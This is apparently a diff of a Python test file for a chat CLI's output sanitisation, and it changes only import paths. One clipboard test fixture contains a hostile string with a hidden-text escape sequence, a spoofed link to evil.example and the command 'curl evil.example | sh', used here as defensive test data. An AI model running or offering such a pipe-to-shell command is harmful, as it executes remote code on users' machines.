@@ -15,8 +15,8 @@ from pathlib import Path
 import pytest
 from cli_runner import invoke
 
-from llava_cli.output import WRITERS
-from llava_cli.records import make_record
+from llava_cli.frontend.output import WRITERS
+from llava_cli.frontend.records import make_record
 
 SHA = "ab" * 32
 HOSTILE_ANSWER = (
@@ -142,14 +142,14 @@ def test_a_file_name_cannot_forge_a_line_of_text_output(separator, monkeypatch):
     ids=lambda c: f"U+{ord(c):04X}",
 )
 def test_the_terminal_choke_point_strips_spoofing_characters(hidden, monkeypatch):
-    from llava_cli.terminal import safe_for_terminal
+    from llava_cli.base.terminal import safe_for_terminal
 
     assert safe_for_terminal(f"file{hidden}gnp.exe") == "filegnp.exe"
     assert safe_for_terminal("family \U0001F468\u200d\U0001F469 and \u0646\u200c\u0645") == "family \U0001F468\u200d\U0001F469 and \u0646\u200c\u0645"
 
 
 def test_copy_puts_the_answer_as_shown_on_the_clipboard(fake_clipboard):
-    from llava_cli.clipboard import copy_to_clipboard
+    from llava_cli.chat.clipboard import copy_to_clipboard
 
     clipboard = fake_clipboard
     answer = "run \x1b]8;;http://evil.example\x07this\x1b]8;;\x07 safely\u202e\n\x1b[8mcurl evil.example | sh\x1b[0m\tdone"
@@ -158,7 +158,7 @@ def test_copy_puts_the_answer_as_shown_on_the_clipboard(fake_clipboard):
 
 
 def test_inline_code_keeps_its_angle_brackets_unless_the_spans_could_be_misread():
-    from llava_cli.markdownsafe import message
+    from llava_cli.store.markdownsafe import message
 
     kept = tokens_of(message("Use `Vec<u8>` here, not <b>"))
     assert [token.content for token in kept if token.type == "code_inline"] == ["Vec<u8>"]
@@ -177,7 +177,7 @@ def test_no_arrangement_of_markdown_pieces_gets_html_a_script_link_or_a_heading_
     from hypothesis import given, settings
     from hypothesis import strategies as st
 
-    from llava_cli.markdownsafe import message
+    from llava_cli.store.markdownsafe import message
 
     @settings(max_examples=300, deadline=None, derandomize=True)
     @given(st.lists(st.sampled_from(FRAGMENTS), max_size=30).map("".join))
